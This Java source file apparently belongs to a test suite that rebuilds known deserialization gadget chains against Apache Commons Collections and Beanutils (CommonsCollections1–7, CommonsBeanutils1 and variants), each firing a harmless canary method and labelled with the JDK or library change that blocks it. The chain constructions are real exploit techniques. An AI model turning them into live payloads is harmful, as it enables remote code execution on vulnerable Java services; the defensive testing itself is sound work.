package io.understudy.museum.attacks;

import static io.understudy.museum.attacks.Payload.loads;
import static io.understudy.museum.attacks.Payload.runs;

import java.io.Serializable;
import java.util.HashMap;
import java.util.Hashtable;
import java.util.List;
import java.util.Map;
import org.apache.commons.beanutils.BeanComparator;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InstantiateTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;
import org.apache.commons.collections4.comparators.TransformingComparator;

/** Chains of the Apache Commons. */
@SuppressWarnings({"deprecation", "rawtypes", "serial", "unchecked"}) // Stand-ins, and old releases of libraries.
final class CommonsPayloads {

    private static final String INVOKER = "org.apache.commons.collections.functors.InvokerTransformer";
    private static final String INSTANTIATOR = "org.apache.commons.collections.functors.InstantiateTransformer";
    private static final String INVOKER_4 = "org.apache.commons.collections4.functors.InvokerTransformer";
    private static final String INSTANTIATOR_4 = "org.apache.commons.collections4.functors.InstantiateTransformer";
    private static final String BEANS = "org.apache.commons.beanutils.BeanComparator";

    private static final String COPIED = "the handler copies the map since JDK 8u72";
    private static final String NOT_SERIALIZABLE = "commons-collections 4.1 made the functor not serializable";

    private CommonsPayloads() {}

    @WrittenAs(INVOKER_4)
    static final class Invoker4 implements org.apache.commons.collections4.Transformer<Object, Object>, Serializable {
        final String iMethodName = "touch";
        final Class<?>[] iParamTypes = {};
        final Object[] iArgs = {};

        @Override
        public Object transform(Object input) {
            return input;
        }
    }

    @WrittenAs(INSTANTIATOR_4)
    static final class Instantiator4
            implements org.apache.commons.collections4.Transformer<Object, Object>, Serializable {
        final Class<?>[] iParamTypes = {Canary.class};
        final Object[] iArgs = {new Canary()};

        @Override
        public Object transform(Object input) {
            return input;
        }
    }

    static List<Payload> all() {
        return List.of(
                loads("CommonsCollections1", INVOKER, COPIED, () -> annotated(lazy(invoking()))),
                loads("CommonsCollections2", INVOKER_4, NOT_SERIALIZABLE, () -> compared4(new Invoker4())),
                loads("CommonsCollections3", INSTANTIATOR, COPIED, () -> annotated(lazy(instantiating()))),
                loads("CommonsCollections4", INSTANTIATOR_4, NOT_SERIALIZABLE, () -> compared4(new Instantiator4())),
                loads(
                        "CommonsCollections5",
                        "javax.management.BadAttributeValueExpException",
                        "the exception asks only for the identity of its value since JDK 17",
                        () -> new JdkParts.BadAttribute(new TiedMapEntry(lazy(invoking()), "key"))),
                runs("CommonsCollections6", INVOKER, () -> JdkParts.set(new TiedMapEntry(lazy(invoking()), "key"))),
                runs("CommonsCollections7", INVOKER, CommonsPayloads::colliding),
                runs(
                        "CommonsCollections6 by constructor",
                        INSTANTIATOR,
                        () -> JdkParts.set(new TiedMapEntry(lazy(instantiating()), "key"))),
                loads(
                        "CommonsCollections6 of 4",
                        INVOKER_4,
                        NOT_SERIALIZABLE,
                        () -> JdkParts.hashed(new org.apache.commons.collections4.keyvalue.TiedMapEntry<>(
                                org.apache.commons.collections4.map.LazyMap.lazyMap(new HashMap<>(), new Invoker4()),
                                "key"))),
                loads(
                        "CommonsCollectionsK1",
                        INVOKER,
                        "there is no byte code in the templates",
                        () -> JdkParts.hashed(tied(new JdkParts.Templates()))),
                runs(
                        "CommonsBeanutils1",
                        BEANS,
                        () -> JdkParts.compared(new BeanComparator<>("song"), new Canary(), new Canary())),
                loads(
                        "CommonsBeanutils1 with templates",
                        BEANS,
                        "there is no byte code in the templates",
                        () -> JdkParts.compared(
                                new BeanComparator<>("outputProperties", String.CASE_INSENSITIVE_ORDER),
                                new JdkParts.Templates(),
                                new JdkParts.Templates())),
                runs("CommonsBeanutils1 with a signed object", BEANS, () -> {
                    Object signed = JdkPayloads.signed();
                    return JdkParts.compared(new BeanComparator<>("object"), signed, signed);
                }));
    }

    private static Transformer invoking() {
        return new ChainedTransformer(new Transformer[] {
            new ConstantTransformer(new Canary()), new InvokerTransformer("touch", new Class<?>[0], new Object[0])
        });
    }

    private static Transformer instantiating() {
        return new ChainedTransformer(new Transformer[] {
            new ConstantTransformer(Canary.Built.class),
            new InstantiateTransformer(new Class<?>[] {Canary.class}, new Object[] {new Canary()})
        });
    }

    private static Map<Object, Object> lazy(Transformer factory) {
        return LazyMap.decorate(new HashMap<>(), factory);
    }

    private static Object annotated(Map<Object, Object> map) {
        Object inner = JdkParts.proxy(JdkParts.answering(map), Map.class);
        return JdkParts.answering(inner);
    }

    private static Object compared4(org.apache.commons.collections4.Transformer<Object, Object> transformer) {
        return JdkParts.compared(new TransformingComparator(transformer), new Canary(), new Canary());
    }

    private static Object tied(Object key) {
        return new TiedMapEntry(lazy(new InvokerTransformer("newTransformer", null, null)), new Later(key));
    }

    /** Two maps with one hash code: the second is compared with the first, and asks its factory for the value. */
    @SuppressWarnings("JdkObsolete") // The chain goes through it.
    private static Object colliding() {
        Map<Object, Object> first = new HashMap<>(Map.of("yy", 1));
        Map<Object, Object> second = new HashMap<>(Map.of("zZ", 1));
        Hashtable<Object, Object> table = new Hashtable<>();
        table.put(new Later(LazyMap.decorate(first, invoking())), 1);
        table.put(new Later(LazyMap.decorate(second, invoking())), 2);
        return table;
    }
}
